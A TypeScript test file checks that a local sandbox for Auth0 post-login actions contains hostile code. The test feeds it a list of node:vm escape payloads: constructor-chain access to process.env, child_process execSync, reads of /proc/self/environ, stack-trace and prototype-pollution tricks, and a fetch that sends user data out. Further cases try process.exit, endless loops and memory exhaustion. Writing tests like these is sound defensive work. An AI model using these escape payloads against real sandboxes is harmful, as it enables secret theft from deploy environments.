// A pull request's action is untrusted input: compare runs it. Each case is an attack that worked on
// node:vm (issue 16), run through the real preview CLI with a deploy secret in its environment and a
// listener on loopback: the action reaches no secret, file, process or network, can't end the run
// looking like success, and can't hang it.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { projectRoot } from "../src/project-root";
import { runCli } from "./helpers/cli-bundles";
import { compileClaims } from "./helpers/claims-action";
import { scratch, jsonLines } from "./helpers/scratch";

const root = projectRoot();
const { file } = scratch("claims-hostile-");
const SECRET = "deploy-secret-6f1b2c";
const SAMPLES = join(root, "samples", "users.ndjson");
const received: string[] = [];
let listener: Server;
let port: number;

beforeAll(async () => {
  listener = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      received.push(`${request.method} ${request.url} ${body}`);
      response.end("ok");
    });
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  port = (listener.address() as AddressInfo).port;
});
afterAll(async () => {
  await new Promise((resolve) => listener.close(resolve));
});

/** `npm run preview -- ARGS` as a pipeline runs it: its own process, the deploy secret in its environment. */
const preview = (...args: string[]) =>
  runCli("src/cli/preview.ts", args, { cwd: root, env: { ...process.env, AUTH0_CLIENT_SECRET: SECRET } });

test("an action that tries every way out of node:vm reaches no secret, no module and no network, and says so in its claims", async () => {
  const attempts = [
    `this.constructor.constructor("return process")().env.AUTH0_CLIENT_SECRET`,
    `({}).constructor.constructor("return process")().env.AUTH0_CLIENT_SECRET`,
    `Function("return process")().env.AUTH0_CLIENT_SECRET`,
    `require("child_process").execSync("env").toString()`,
    `require("fs").readFileSync("/proc/self/environ", "utf8")`,
    `require("node:fs").readFileSync("/proc/self/environ", "utf8")`,
    `require("vm").runInThisContext("process").env.AUTH0_CLIENT_SECRET`,
    `require("worker_threads").Worker.name`,
    `require("http").get("http://127.0.0.1:${port}/http")`,
    `require("module").createRequire("/")("fs").readFileSync("/proc/self/environ", "utf8")`,
    `JSON.stringify(process.env)`,
    `typeof process.exit`,
    `Object.getPrototypeOf(async function () {}).constructor("return process")()`,
    `(() => { Error.prepareStackTrace = (e, frames) => frames[0].getThis(); return typeof new Error().stack; })()`,
    `(() => { Object.prototype.polluted = 1; return "polluted"; })()`,
  ];
  const action = file(
    "exfiltrate.js",
    `const tried = [];
     for (const attempt of ${JSON.stringify(attempts)}) {
       try { tried.push(String(Function("require", "return (" + attempt + ")")(require))); } catch (e) { tried.push("refused: " + e.message); }
     }
     exports.onExecutePostLogin = async (event, api) => {
       try { await fetch("http://127.0.0.1:${port}/fetch", { method: "POST", body: event.user.email + " " + tried.join(" ") }); } catch (e) { tried.push("fetch refused: " + e.message); }
       api.idToken.setCustomClaim("https://attacker.example/tried", tried);
     };`,
  );
  const run = await preview(
    "--users",
    SAMPLES,
    "--code",
    action,
    "--json",
    "--compare",
    file("base.js", compileClaims().code),
    "--fail-on-change",
  );
  expect(run.stdout + run.stderr).not.toContain(SECRET);
  expect(received).toEqual([]);
  // Every login of the head changes (it sets a claim the base doesn't): not a "no change".
  expect(run.status).toBe(1);
  const tried = (jsonLines(run.stdout)[0].idToken as Record<string, { after: string[] }>)[
    "https://attacker.example/tried"
  ].after;
  expect(tried.slice(0, attempts.length)).toEqual([
    expect.stringMatching(/^refused: /),
    expect.stringMatching(/^refused: /),
    // The Compartment's own Function: its `process` is the stub, whose env is empty.
    "undefined",
    expect.stringMatching(/^refused: Cannot load 'child_process' in the local sandbox/),
    expect.stringMatching(/^refused: Cannot load 'fs' in the local sandbox/),
    expect.stringMatching(/^refused: Cannot load 'node:fs' in the local sandbox/),
    expect.stringMatching(/^refused: Cannot load 'vm' in the local sandbox/),
    expect.stringMatching(/^refused: Cannot load 'worker_threads' in the local sandbox/),
    expect.stringMatching(/^refused: Cannot load 'http' in the local sandbox/),
    expect.stringMatching(/^refused: Cannot load 'module' in the local sandbox/),
    "{}",
    "undefined",
    expect.stringMatching(/^refused: /),
    "string",
    expect.stringMatching(/^refused: Cannot add property polluted/),
  ]);
  expect(tried[attempts.length]).toMatch(
    /^fetch refused: fetch http:\/\/127\.0\.0\.1:\d+\/fetch: the local sandbox makes no network calls \(allow an origin with --allow-fetch\)$/,
  );
});

test.each([
  ["at load", "process.exit(0);\nexports.onExecutePostLogin = async () => {};"],
  ["at load, through require('process')", "require('process').exit(0);\nexports.onExecutePostLogin = async () => {};"],
  ["in the handler", "exports.onExecutePostLogin = async () => { process.exit(0); };"],
])("an action that calls process.exit(0) %s can't end a compare as if nothing changed", async (_where, code) => {
  const run = await preview(
    "--users",
    SAMPLES,
    "--code",
    file("exit.js", code),
    "--json",
    "--compare",
    file("base.js", compileClaims().code),
    "--fail-on-change",
  );
  expect(run.status).toBe(1);
  const lines = jsonLines(run.stdout);
  expect(lines).toHaveLength(5);
  for (const line of lines) expect((line.denied as { after: string }).after).toMatch(/exit is not a function/);
});

test("an endless loop at load: every login is denied with the reason, within the time limit, instead of a hung pipeline", async () => {
  const run = await preview(
    "--users",
    SAMPLES,
    "--code",
    file("load-loop.js", "while (true) {}\nexports.onExecutePostLogin = async () => {};"),
    "--timeout-ms",
    "500",
  );
  expect(run.status).toBe(1);
  expect(run.stderr).toBe(
    'preview: every login would be denied: action "app-metadata-claims" did not finish loading within 500 ms\n',
  );
});

test("an endless loop in the handler for one user: that login times out, the others run", async () => {
  const code = `exports.onExecutePostLogin = async (event, api) => { if (event.user.user_id === "auth0|bob") for (;;) {} api.idToken.setCustomClaim("https://x.example/ok", 1); };`;
  const run = await preview(
    "--users",
    SAMPLES,
    "--code",
    file("loop.js", code),
    "--json",
    "--timeout-ms",
    "500",
    "--workers",
    "2",
  );
  expect(run.status).toBe(1);
  const lines = jsonLines(run.stdout);
  expect(lines.map((l) => [l.user_id, l.denied])).toEqual([
    ["auth0|alice", null],
    ["auth0|bob", "the flow did not finish within 500 ms; Auth0 fails the login"],
    ["auth0|carol", null],
    ["google-oauth2|dave", null],
    ["auth0|erin", null],
  ]);
});

test("an action that exhausts memory ends the run with exit 2 and one line naming it, never a partial report", async () => {
  const code = `const hoard = []; exports.onExecutePostLogin = async () => { for (;;) hoard.push(new Array(1e6).fill(1)); };`;
  const run = await preview("--users", SAMPLES, "--code", file("hog.js", code), "--json");
  expect(run.status).toBe(2);
  expect(run.stdout).toBe("");
  // Run with --json: the one line is JSON, with the code a pipeline branches on.
  expect(run.stderr).toBe(
    `${JSON.stringify({ command: "preview", code: "ERR_SANDBOX_STOPPED", exit: 2, error: 'a preview worker running action "app-metadata-claims" ran out of memory (the sandbox allows 512 MiB); the run is incomplete' })}\n`,
  );
});
